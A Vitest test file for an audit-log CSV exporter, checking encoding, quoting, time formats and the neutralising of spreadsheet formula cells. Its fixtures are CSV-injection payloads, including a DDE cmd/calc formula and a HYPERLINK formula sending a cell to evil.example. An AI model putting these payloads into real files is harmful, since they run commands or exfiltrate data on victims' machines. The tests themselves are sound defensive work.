/**
 * The Audit log's CSV (extension/portal/audit/audit-csv.ts): written by
 * papaparse, read back by papaparse to the same cells, in words and codes,
 * times in UTC and local ISO 8601, and every cell a spreadsheet would run as
 * a formula neutralised with a leading apostrophe.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { AUDIT_CSV_COLUMNS, auditCsvFileName, formatAuditCsv, NOT_SIGNED_IN } from '../../extension/portal/audit/audit-csv';
import type { AuditEvent } from '../../shared/portal/model';

/** Reads CSV text as papaparse does, header row first. */
function readCsv(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const AT = Date.UTC(2025, 2, 30, 1, 30, 5, 250);

const EVENTS: AuditEvent[] = [
  { id: 12, at: AT, action: 'sign_in', actor: 'alice@acme-msp.example', subject: 'alice@acme-msp.example', result: 'success', reason: 'totp' },
  { id: 11, at: AT - 1000, action: 'sign_in_failed', actor: null, subject: null, result: 'failure', reason: 'unknown_email' },
  { id: 10, at: AT - 2000, action: 'locked_out', actor: 'bob@acme-msp.example', subject: 'bob@acme-msp.example', result: 'failure', reason: 'locked_for_1_hour' },
  { id: 9, at: AT - 3000, action: 'mfa_enrollment_started', actor: 'owner@acme-msp.example', subject: 'carol, "c"\nsmith@x.example', result: 'success' },
];

describe('formatAuditCsv', () => {
  it('writes a header and one row per event, in words and codes, read back cell for cell', () => {
    const text = formatAuditCsv(EVENTS, 'Europe/Paris');
    // A byte order mark, so that Excel reads UTF-8; CRLF line ends (RFC 4180).
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(text).toContain('\r\n');
    expect(readCsv(text)).toEqual([
      [...AUDIT_CSV_COLUMNS],
      ['2025-03-30T01:30:05.250Z', '2025-03-30T03:30:05+02:00', 'Europe/Paris', 'Signed in', 'alice@acme-msp.example', 'alice@acme-msp.example', 'Succeeded', 'With a code from the authenticator app', 'sign_in', 'totp', '12'],
      ['2025-03-30T01:30:04.250Z', '2025-03-30T03:30:04+02:00', 'Europe/Paris', 'Sign-in failed', NOT_SIGNED_IN, '', 'Failed', 'No user has this email', 'sign_in_failed', 'unknown_email', '11'],
      ['2025-03-30T01:30:03.250Z', '2025-03-30T03:30:03+02:00', 'Europe/Paris', 'Locked out after too many wrong codes', 'bob@acme-msp.example', 'bob@acme-msp.example', 'Failed', 'Locked for 1 hour', 'locked_out', 'locked_for_1_hour', '10'],
      ['2025-03-30T01:30:02.250Z', '2025-03-30T03:30:02+02:00', 'Europe/Paris', 'Turned MFA on (waiting for the QR code to be scanned)', 'owner@acme-msp.example', 'carol, "c"\nsmith@x.example', 'Succeeded', '', 'mfa_enrollment_started', '', '9'],
    ]);
  });

  it.each([
    ['=cmd|\' /C calc\'!A0@evil.example'],
    ['+1+1@evil.example'],
    ['-2+3@evil.example'],
    ['@SUM(1+1)@evil.example'],
    ['\t=1+1@evil.example'],
    ['\r=1+1@evil.example'],
    ['=HYPERLINK("http://evil.example/?"&A1)\nsecond-line@evil.example'],
  ])('neutralises a cell a spreadsheet would run as a formula: %j', (email) => {
    const event: AuditEvent = { id: 1, at: AT, action: 'mfa_disabled', actor: email, subject: email, result: 'success' };
    const [, row] = readCsv(formatAuditCsv([event], 'UTC'));
    expect(row![AUDIT_CSV_COLUMNS.indexOf('Who did it')]).toBe(`'${email}`);
    expect(row![AUDIT_CSV_COLUMNS.indexOf('About whom')]).toBe(`'${email}`);
  });

  it('leaves every other cell as it is (a formula sign later in the cell is harmless)', () => {
    const email = 'a=b+c-d@evil.example';
    const [, row] = readCsv(formatAuditCsv([{ id: 1, at: AT, action: 'mfa_disabled', actor: email, subject: null, result: 'success' }], 'UTC'));
    expect(row![AUDIT_CSV_COLUMNS.indexOf('Who did it')]).toBe(email);
    for (const cell of row!) expect(cell.startsWith("'")).toBe(false);
  });

  it('writes only the header for no events', () => {
    expect(readCsv(formatAuditCsv([], 'UTC'))).toEqual([[...AUDIT_CSV_COLUMNS]]);
  });
});

describe('auditCsvFileName', () => {
  it("names the file after the local day it was made", () => {
    expect(auditCsvFileName(Date.UTC(2025, 2, 30, 23, 30), 'UTC')).toBe('acme-msp-audit-log-2025-03-30.csv');
    expect(auditCsvFileName(Date.UTC(2025, 2, 30, 23, 30), 'Europe/Paris')).toBe('acme-msp-audit-log-2025-03-31.csv');
  });
});
